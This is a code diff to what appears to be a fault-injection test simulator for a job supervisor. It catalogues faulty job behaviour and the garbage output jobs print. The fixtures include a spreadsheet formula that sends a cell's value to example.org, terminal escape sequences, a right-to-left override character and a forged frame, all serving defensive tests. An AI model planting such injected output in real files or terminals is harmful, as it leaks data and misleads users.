@@ -28,7 +28,8 @@ class Fate:
     children: int = 0
     child_is_stubborn: bool = False
     child_hides: bool = False
-    garbage: bool = False
+    #: Which of `GARBAGE` it prints.
+    garbage: tuple[str, ...] = ()
     reports: bool = True
 
 
@@ -54,34 +55,27 @@ def draw_fate(chance: random.Random, kinds: set[str]) -> Fate:
         children=chance.randrange(1, 4) if may("J11", 0.4) else 0,
         child_is_stubborn=may("J12", 0.5),
         child_hides=may("J13", 0.5),
-        garbage=may("J16", 0.5),
-        reports=not may("J15", 0.3),
+        garbage=tuple(name for name in GARBAGE if may(name.partition(" ")[0], 0.5)),
+        reports=not may("J6", 0.3),
     )
 
 
-GARBAGE = (
-    b"\x1b[2J\x1b]0;title\x07\r 12%|#   | 1/8\r 25%|##",
-    b'=IMPORTDATA("http://example.org/?"&A1)\n',
-    b'{"values": {"loss": NaN}}\n{"values": {"loss": 1e400}}\n\xff\xfe broken\n',
-    b"SHEETD 00000000000000000000000000000000 2 44136fa355b3678a\n{}\n",
-    b"x" * 70_000,
-    b"ValueError: \xe2\x80\xae evil\n",
-)
+#: By the fault of the catalogue that each is.
+GARBAGE: dict[str, tuple[bytes, ...]] = {
+    "J7 NaN and infinity": (b'{"values": {"loss": NaN}}\n{"values": {"loss": 1e400}}\n\xff\xfe broken\n',),
+    "J15 70,000 bytes without a newline": (b"x" * 70_000,),
+    "J16 escapes, carriage returns, broken text": (
+        b"\x1b[2J\x1b]0;title\x07\r 12%|#   | 1/8\r 25%|##",
+        b'=IMPORTDATA("http://example.org/?"&A1)\n',
+        b"ValueError: \xe2\x80\xae evil\n",
+    ),
+    "J17 a forged frame": (b"SHEETD 00000000000000000000000000000000 2 44136fa355b3678a\n{}\n",),
+}
 
 
 def run_job(engine: Engine, fate: Fate, is_calm: list[bool], process: Process, env: dict[str, str]) -> int:
     """The life of a job's main process. Returns its exit code."""
-    machine = process.machine
-    process.ignores_term = fate.ignores_term
-    for number in range(fate.children):
-        born = machine.new_process(process, "job child", lambda: live_on(engine, is_calm))
-        born.handlers = {}
-        if fate.child_is_stubborn:
-            engine.fault("J12 a child ignores TERM")
-            born.ignores_term = True
-        if fate.child_hides and number == 0:
-            engine.fault("J13 a child leaves the session and forgets its environment")
-            born.session, born.environ = born.pid, {}
+    begin(engine, fate, is_calm, process)
     run = int(env["SHEETD_RESTART"])
     steps = 4
     for step in range(steps):
@@ -92,19 +86,59 @@ def run_job(engine: Engine, fate: Fate, is_calm: list[bool], process: Process, e
                 env["SHEETD_METRICS_FILE"],
                 json.dumps({"step": step, "values": {"loss": 1.0 / (step + 1)}, "k": run}),
             )
-        if fate.garbage:
-            write(process, env["SHEETD_METRICS_FILE"], "")
-            talk(GARBAGE[(step + run) % len(GARBAGE)])
+        for name in fate.garbage:
+            engine.fault(name)
+            said = GARBAGE[name][(step + run) % len(GARBAGE[name])]
+            write(process, env["SHEETD_METRICS_FILE"], said.decode("utf-8", "surrogateescape"))
+            talk(said)
         checkpoint = env["CHECKPOINT_DIR"]
         leave(process, f"{checkpoint}/step-{step}")
+    if fate.hangs and not is_calm[0]:
+        engine.fault("J5 a job hangs")
     while fate.hangs and not is_calm[0]:
         engine.sleep(30.0)
     talk(b"loss=0.5\nValueError: the end of it\n")
-    if run < fate.crashes:
-        if fate.signal:
-            machine.end(me(), fate.signal)
-        return fate.rc
-    return 0
+    return end(engine, fate, process, run)
+
+
+def begin(engine: Engine, fate: Fate, is_calm: list[bool], process: Process) -> None:
+    """What is wrong with it from the start."""
+    machine = process.machine
+    process.ignores_term = fate.ignores_term
+    if not fate.reports:
+        engine.fault("J6 a job is silent")
+    if fate.term_rc is not None:
+        process.handlers[15] = lambda _number, _frame: leave_at_once(engine, process, fate.term_rc)
+    for number in range(fate.children):
+        engine.fault("J11 a child that may outlive its parent")
+        born = machine.new_process(process, "job child", lambda: live_on(engine, is_calm))
+        born.handlers = {}
+        if born.fds:
+            engine.fault("J14 a child holds its parent's descriptors")
+        if fate.child_is_stubborn:
+            engine.fault("J12 a child ignores TERM")
+            born.ignores_term = True
+        if fate.child_hides and number == 0:
+            engine.fault("J13 a child leaves the session and forgets its environment")
+            born.session, born.environ = born.pid, {}
+
+
+def leave_at_once(engine: Engine, process: Process, rc: int | None) -> None:
+    """The job's own handler of TERM: it says that all went well, and has not done what it was for."""
+    engine.fault("J10 a job that was told to end exits with 0")
+    process.machine.end(process, (rc or 0) << 8)
+
+
+def end(engine: Engine, fate: Fate, process: Process, run: int) -> int:
+    if run >= fate.crashes:
+        return 0
+    engine.fault("J1 a job crashes at once" if fate.seconds == 0.0 else "J2 a job crashes")
+    if run:
+        engine.fault("J3 a job crashes again")
+    if fate.signal:
+        engine.fault("J4 a job is ended by a signal")
+        process.machine.end(me(), fate.signal)
+    return fate.rc
 
 
 def live_on(engine: Engine, is_calm: list[bool]) -> None:
@@ -124,7 +158,7 @@ def write(process: Process, path: str, line: str) -> None:
     file = process.machine.find(path)
     if process.machine.disk_full:
         return
-    file.data += line.encode() + b"\n"
+    file.data += line.encode("utf-8", "surrogateescape") + b"\n"
     process.machine.changed()
 
 
